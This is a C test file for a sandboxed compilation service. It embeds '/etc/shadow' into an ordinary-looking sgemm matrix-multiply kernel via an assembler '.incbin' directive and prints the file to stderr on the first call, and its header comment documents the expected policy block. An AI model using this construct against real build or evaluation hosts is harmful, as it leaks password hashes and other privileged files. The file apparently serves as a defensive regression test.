/* Hostile (issue 18, class 4: the compiler reads the host). The assembler
 * runs as the compiler's user (root today) and `.incbin "/etc/shadow"`
 * copies the whole file into the object, under a local symbol. The object
 * then compiles and loads cleanly, and the first call writes the file to
 * stderr, whose last 4 KiB the result carries back (sandbox.stderr_tail).
 * The product is the honest i-k-j loop of tests/hostile/twins/gemm_ikj.c.
 * tests/integration/test_hostile.sh does not include the real /etc/shadow:
 * it plants a root-only 0600 file holding a random token and compiles a copy
 * of this file with the path replaced (sed), then looks for the token.
 *
 * Expected: policy_violation (file_inclusion, the .incbin line), nothing
 * compiled. With the rule relaxed (test_hostile.sh's second pass), as
 * before the policy: compile_error (the assembler cannot open the
 * file), and no line of the file anywhere in the result. Today: ok, with the
 * whole file in sandbox.stderr_tail. */
#include <stdint.h>
#include <unistd.h>

__asm__(".pushsection .rodata.avo_hostile,\"a\"\n"
        "avo_hostile_secret:\n"
        ".incbin \"/etc/shadow\"\n"
        "avo_hostile_secret_end:\n"
        ".byte 0\n"
        ".popsection\n");
extern const char avo_hostile_secret[] __attribute__((visibility("hidden")));
extern const char avo_hostile_secret_end[] __attribute__((visibility("hidden")));

static void gemm_ikj(const float *restrict A, const float *restrict B, float *restrict C, int64_t M, int64_t N,
                     int64_t K)
{
    for (int64_t i = 0; i < M; i++) {
        float *restrict c = C + i * N;
        for (int64_t j = 0; j < N; j++)
            c[j] = 0.0f;
        for (int64_t k = 0; k < K; k++) {
            const float a = A[i * K + k];
            const float *restrict b = B + k * N;
            for (int64_t j = 0; j < N; j++)
                c[j] += a * b[j];
        }
    }
}

int sgemm(void *const *tensors, const int64_t *sizes)
{
    static int shown;
    if (!shown) {
        shown = 1;
        (void)!write(2, avo_hostile_secret, (size_t)(avo_hostile_secret_end - avo_hostile_secret));
    }
    gemm_ikj(tensors[0], tensors[1], tensors[2], sizes[0], sizes[1], sizes[2]);
    return 0;
}
